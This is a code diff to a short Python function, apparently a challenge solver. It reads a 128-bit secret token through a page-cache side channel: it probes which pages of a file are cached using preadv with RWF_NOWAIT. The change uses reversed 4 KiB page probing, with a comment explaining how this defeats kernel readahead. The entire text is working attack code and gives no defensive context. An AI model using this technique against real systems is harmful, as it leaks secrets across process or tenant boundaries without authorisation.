@@ -3,11 +3,11 @@ import os
 
 def attempt(scene):
     file = os.open(scene["pages"], os.O_RDONLY)
-    token = 0
-    for number in range(128):
+    absent = set()
+    # The kernel fetches what follows a missing page, too: the last page comes first.
+    for page in reversed(range(512)):
         try:
-            read = os.preadv(file, [bytearray(1)], number << 14, os.RWF_NOWAIT)
+            os.preadv(file, [bytearray(1)], page << 12, os.RWF_NOWAIT)
         except BlockingIOError:
-            read = 0
-        token = 2 * token + read
-    return b"%032x" % token
+            absent.add(page >> 2)
+    return b"%032x" % sum(1 << 127 - number for number in range(128) if number not in absent)
